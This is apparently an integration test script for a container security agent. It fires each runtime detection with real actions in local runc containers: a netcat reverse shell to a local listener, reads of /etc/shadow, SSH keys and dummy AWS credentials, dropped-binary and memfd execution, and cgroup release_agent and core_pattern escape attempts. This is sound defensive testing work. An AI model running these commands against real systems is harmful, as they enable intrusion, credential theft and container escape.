#!/bin/bash
# agent_detect.sh - every built-in detection (docs/agent-detections.md)
# triggered by a real action in a real runc container, with the agent in
# monitor mode; each expected "alert" event (type, detection.id,
# container.id) is asserted with jq. Also: a detection disabled by a policy
# (spec.detections.disable) produces no alert while another one still does.
#
# Containers: M (busybox, joined to a network namespace the test creates,
# /dev/shm executable), P (busybox with CAP_SYS_ADMIN/CAP_SETUID and no
# cgroup namespace: the setid and release_agent escapes), D (the Debian
# rootfs, read-only: dpkg), Q (busybox, in a group whose policy disables
# BW-RT-002). The helper for memfd/ptrace/setid/module is a static C program
# compiled here (agent_detect_helper.c).
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib_ctr.sh"

if ! need_root; then
	skip "agent detections" "needs root (runc, fanotify, BPF)"
	done_testing
fi

ID=$$
NETNS=bwt-$ID
EV=$TMP/events.jsonl
SOCK=$TMP/agent.sock
STATE=$TMP/state
AGENT_LOG=$TMP/agent.log
LISTENER_PID=

cleanup() {
	# the agent first: its fanotify permission marks must never outlive it
	agent_stop
	[ -n "$LISTENER_PID" ] && kill "$LISTENER_PID" 2>/dev/null
	ctr_cleanup
	ip netns del "$NETNS" 2>/dev/null
	rm -rf "$TMP"
}
trap cleanup EXIT

M=bwt-$ID-m
P=bwt-$ID-p
D=bwt-$ID-d
Q=bwt-$ID-q

# wait_alert ID CTR [JQ-CONDITION] [SECONDS]: an alert for detection ID in
# container CTR (and the condition) shows up in the event stream.
wait_alert() {
	local id=$1 c=$2 cond=${3:-true} n=$((${4:-15} * 10))
	for _ in $(seq 1 "$n"); do
		if jq -c -R --arg id "$id" --arg c "$c" "fromjson? | select(.type == \"alert\" and
			.detection.id == \$id and .container.id == \$c) | select($cond)" "$EV" 2>/dev/null |
			grep -q .; then
			return 0
		fi
		sleep 0.1
	done
	diag "no $id alert for $c; alerts seen for it:"
	jq -c -R --arg c "$c" 'fromjson? | select(.type == "alert" and .container.id == $c) |
		[.detection.id, .detection.detail]' "$EV" 2>/dev/null | head -20 | while read -r l; do diag "$l"; done
	return 1
}

no_alert() {
	! jq -c -R --arg id "$1" --arg c "$2" 'fromjson? | select(.type == "alert" and
		.detection.id == $id and .container.id == $c)' "$EV" 2>/dev/null | grep -q .
}

args_has() { printf '(.process.args // [] | join(" ") | contains("%s"))' "$1"; }


# ---- root filesystems, helper, bundles --------------------------------------
gcc -static -O2 -o "$TMP/bwhelper" "$(dirname "$0")/agent_detect_helper.c" || {
	echo "Bail out! gcc -static failed (libc6-dev needed)"; exit 1; }
for r in m p q; do
	busybox_rootfs "$TMP/root-$r"
	cp "$TMP/bwhelper" "$TMP/root-$r/bin/bwhelper"
	mkdir -p "$TMP/root-$r/root/.aws"
	printf '[default]\naws_access_key_id = AKIATEST\naws_secret_access_key = not-a-secret\n' \
		>"$TMP/root-$r/root/.aws/credentials"
	printf 'root ALL=(ALL:ALL) ALL\n' >"$TMP/root-$r/etc/sudoers"
	chmod 0440 "$TMP/root-$r/etc/sudoers"
done
DEB=$(debian_rootfs) || { echo "Bail out! no Debian rootfs"; exit 1; }

ip netns add "$NETNS" && ip netns exec "$NETNS" ip link set lo up ||
	{ echo "Bail out! ip netns add failed"; exit 1; }

make_bundle "$TMP/b-m" "$TMP/root-m" --netns "/var/run/netns/$NETNS" \
	--annotation org.opencontainers.image.ref.name=bwtest/detect:1 -- sleep 600
# /dev/shm executable, so that running a program from it is possible at all
jq '.mounts |= map(if .destination == "/dev/shm" then .options -= ["noexec"] else . end)' \
	"$TMP/b-m/config.json" >"$TMP/c.json" && mv "$TMP/c.json" "$TMP/b-m/config.json"

make_bundle "$TMP/b-p" "$TMP/root-p" \
	--annotation org.opencontainers.image.ref.name=bwtest/priv:1 -- sleep 600
jq '.process.capabilities |= with_entries(.value += ["CAP_SYS_ADMIN", "CAP_SETUID", "CAP_SETGID"]) |
	.linux.namespaces |= map(select(.type != "cgroup"))' \
	"$TMP/b-p/config.json" >"$TMP/c.json" && mv "$TMP/c.json" "$TMP/b-p/config.json"

make_bundle "$TMP/b-d" "$DEB" --annotation org.opencontainers.image.ref.name=bwtest/debian:12 \
	-- sleep 600
jq '.root.readonly = true' "$TMP/b-d/config.json" >"$TMP/c.json" && mv "$TMP/c.json" "$TMP/b-d/config.json"

make_bundle "$TMP/b-q" "$TMP/root-q" \
	--annotation org.opencontainers.image.ref.name=bwtest/quiet:1 -- sleep 600

mkdir -p "$TMP/policy" "$TMP/state"
cat >"$TMP/policy/quiet.yaml" <<'EOF'
apiVersion: bulwark.dev/v1
kind: SecurityPolicy
metadata:
  name: bwtest-quiet
spec:
  selector:
    group: bwtest/quiet
  mode: monitor
  detections:
    disable: [BW-RT-002]
EOF

# ---- the agent ----------------------------------------------------------------
# the system call hooks (off by default) give the mount, module, memfd and
# escape-open events these tests expect; BW_TEST_SYSCALL_HOOKS=off runs the default
agent_start --policy "$TMP/policy" --default-mode monitor \
	--syscall-hooks "${BW_TEST_SYSCALL_HOOKS:-on}"
agent_wait_ready 30
up=$?
ok "agent is up (bulwark agent status)" test $up = 0
if [ $up != 0 ]; then
	echo "Bail out! the agent did not start"
	exit 1
fi
SRC=$(agent_status | jq -r .source)
diag "source: $SRC"

ctr_start runc "$M" "$TMP/b-m" && ctr_start runc "$P" "$TMP/b-p" &&
	ctr_start runc "$D" "$TMP/b-d" && ctr_start runc "$Q" "$TMP/b-q"
all=0
for c in "$M" "$P" "$D" "$Q"; do agent_wait_marked "$c" || { all=1; diag "$c not marked"; }; done
ok "the agent found and marked the four containers" test $all = 0

# ---- M: shell, network tool, reverse shell --------------------------------------
ctr_exec runc "$M" sh -c 'echo bwt-shell-marker' >/dev/null
ok "BW-RT-001 shell: sh -c in a container" wait_alert BW-RT-001 "$M" "$(args_has bwt-shell-marker)"

ctr_exec runc "$M" wget -q -T 1 -O /dev/null http://127.0.0.1:9/ >/dev/null 2>&1
ok "BW-RT-002 network tool: wget" wait_alert BW-RT-002 "$M" '(.detection.detail | contains("wget"))'

# the listener sends one command down the reverse shell and keeps its stdin
# open long enough to read the answer; the shell answers and exits at once,
# likely before the agent takes its exec event (eBPF reads its fds at exec)
( { echo 'echo bwt-revshell-ok; exit'; sleep 5; } |
	timeout 20 ip netns exec "$NETNS" /bin/busybox nc -l -p 4444 >"$TMP/listener.out" 2>&1 ) &
LISTENER_PID=$!
for _ in $(seq 1 50); do
	ip netns exec "$NETNS" ss -ltn 2>/dev/null | grep -q ':4444 ' && break
	sleep 0.1
done
ctr_exec runc "$M" nc 127.0.0.1 4444 -e /bin/sh >/dev/null 2>&1
wait "$LISTENER_PID" 2>/dev/null
LISTENER_PID=
ok "the reverse shell answered the listener" grep -q bwt-revshell-ok "$TMP/listener.out"
ok "BW-RT-003 reverse shell: nc -e /bin/sh (stdin/stdout a socket)" wait_alert BW-RT-003 "$M"

# ---- M: writes and reads ------------------------------------------------------
# The writers stay a moment: the agent names the container of a write by the
# writer's pid (docs/agent-detections.md, known gaps).
ctr_exec runc "$M" sh -c 'echo x > /etc/bwt-written; sleep 1'
ok "BW-RT-004 write below /etc" wait_alert BW-RT-004 "$M" '(.detection.detail | contains("/etc/bwt-written"))'
ctr_exec runc "$M" sh -c 'echo x > /usr/bin/bwt-written; sleep 1'
ok "BW-RT-005 write below /usr/bin" wait_alert BW-RT-005 "$M" '(.detection.detail | contains("/usr/bin/bwt-written"))'
ctr_exec runc "$M" cat /etc/shadow >/dev/null
ok "BW-RT-006 /etc/shadow read" wait_alert BW-RT-006 "$M" '(.detection.detail | contains("/etc/shadow"))'
ctr_exec runc "$M" cat /etc/sudoers >/dev/null
ok "BW-RT-006 /etc/sudoers read" wait_alert BW-RT-006 "$M" '(.detection.detail | contains("/etc/sudoers"))'
ctr_exec runc "$M" cat /root/.ssh/id_rsa >/dev/null
ok "BW-RT-007 SSH private key read" wait_alert BW-RT-007 "$M" '(.detection.detail | contains("/root/.ssh/id_rsa"))'
ctr_exec runc "$M" cat /root/.aws/credentials >/dev/null
ok "BW-RT-008 cloud credentials read" wait_alert BW-RT-008 "$M" '(.detection.detail | contains("/root/.aws/credentials"))'

# ---- D: a real package manager --------------------------------------------------
ctr_exec runc "$D" dpkg --version >/dev/null
ok "BW-RT-009 package manager: dpkg --version (Debian rootfs)" \
	wait_alert BW-RT-009 "$D" '(.detection.detail | contains("dpkg"))'

# ---- M: drift, temp dirs, memfd, ptrace, module, mount ----------------------------
# the writer is the shell itself (alive during the pause), and the pause lets
# the agent take the close-write of the copy before the exec
ctr_exec runc "$M" sh -c 'cat /bin/busybox > /tmp/bwt-drop && chmod +x /tmp/bwt-drop && sleep 1 && /tmp/bwt-drop true' 2>/dev/null
ok "BW-RT-010 drift: binary written then executed" wait_alert BW-RT-010 "$M" '(.detection.detail | contains("/tmp/bwt-drop"))'
ok "BW-RT-011 execution from /tmp" wait_alert BW-RT-011 "$M" '(.detection.detail | contains("/tmp/bwt-drop"))'
ctr_exec runc "$M" sh -c 'cat /bin/busybox > /dev/shm/bwt-shm && chmod +x /dev/shm/bwt-shm && /dev/shm/bwt-shm true' 2>/dev/null
ok "BW-RT-011 execution from /dev/shm" wait_alert BW-RT-011 "$M" '(.detection.detail | contains("/dev/shm/bwt-shm"))'
ctr_exec runc "$M" /bin/bwhelper memfd
ok "BW-RT-012 memfd exec (memfd_create + fexecve)" wait_alert BW-RT-012 "$M"
ctr_exec runc "$M" /bin/bwhelper ptrace
ok "BW-RT-013 ptrace attach" wait_alert BW-RT-013 "$M"
ctr_exec runc "$M" /bin/bwhelper module >/dev/null
ok "BW-RT-017 kernel module load (finit_module, refused)" wait_alert BW-RT-017 "$M"
ctr_exec runc "$M" sh -c 'mkdir -p /tmp/cg && mount -t cgroup -o none,name=bwt cgroup /tmp/cg' >/dev/null 2>&1
ok "BW-RT-016 cgroupfs mount attempt (EPERM without CAP_SYS_ADMIN)" \
	wait_alert BW-RT-016 "$M" '(.detection.detail | contains("cgroup"))'

# ---- P: setid, release_agent ----------------------------------------------------
ctr_exec runc "$P" /bin/bwhelper setid
ok "BW-RT-014 setid: euid 65534 takes root back" wait_alert BW-RT-014 "$P" '(.detection.detail | contains("65534 -> 0"))'
ctr_exec runc "$P" sh -c "mkdir -p /tmp/cg && mount -t cgroup -o none,name=bwt$ID cgroup /tmp/cg &&
	echo /bin/true > /tmp/cg/release_agent; umount /tmp/cg" >/dev/null 2>&1
ok "BW-RT-016 cgroupfs mount (privileged container)" wait_alert BW-RT-016 "$P"
# The write goes to a mount made after the container was marked: fanotify
# does not see it, the eBPF source sees the open (docs/agent-detections.md).
if [ "$SRC" = bpf ]; then
	ok "BW-RT-015 release_agent write (cgroupfs mounted in the container)" \
		wait_alert BW-RT-015 "$P" '(.file.path == "/tmp/cg/release_agent")'
elif wait_alert BW-RT-015 "$P" true 5 >/dev/null; then
	pass "BW-RT-015 release_agent write"
else
	_T=$((_T + 1)); echo "not ok $_T - BW-RT-015 release_agent write # TODO new mounts are not marked (proc source)"
fi

# ---- M: escape attempts on kernel interface files (refused in the container) ------
if [ "$SRC" = bpf ]; then
	ctr_exec runc "$M" cat /proc/sys/kernel/core_pattern >/dev/null 2>&1
	ctr_exec runc "$M" sh -c 'echo x > /sys/fs/cgroup/release_agent' >/dev/null 2>&1
	ok "BW-RT-015 release_agent write attempt (EROFS)" wait_alert BW-RT-015 "$M" \
		'(.file.path == "/sys/fs/cgroup/release_agent" and .file.access == "write")'
	ctr_exec runc "$M" sh -c 'cd /proc/sys/kernel && echo x > core_pattern' >/dev/null 2>&1
	ok "BW-RT-015 core_pattern write attempt through a relative path" \
		wait_alert BW-RT-015 "$M" '(.file.path == "core_pattern")'
	ok "BW-RT-015 no alert for a read of core_pattern" test "$(jq -c -R --arg c "$M" \
		'fromjson? | select(.type == "alert" and .container.id == $c and
			.detection.id == "BW-RT-015" and (.process.args // [] | index("cat")))' "$EV" | wc -l)" = 0
else
	for _ in 1 2 3; do skip "BW-RT-015 write attempts" "needs the eBPF source"; done
fi

# ---- Q: BW-RT-002 disabled by policy --------------------------------------------
ctr_exec runc "$Q" wget -q -T 1 -O /dev/null http://127.0.0.1:9/ >/dev/null 2>&1
ctr_exec runc "$Q" sh -c 'echo bwt-quiet-marker' >/dev/null
ok "policy group: other detections still alert (BW-RT-001)" \
	wait_alert BW-RT-001 "$Q" "$(args_has bwt-quiet-marker)"
ok "policy group: BW-RT-002 disabled, no alert for wget" no_alert BW-RT-002 "$Q"
ok "every alert names its container, detection and ATT&CK technique" \
	test "$(jq -c -R 'fromjson? | select(.type == "alert") |
		select((.container.id | length) == 0 or (.detection.mitre.id | test("^T[0-9]{4}")) == false)' \
		"$EV" | wc -l)" = 0

done_testing
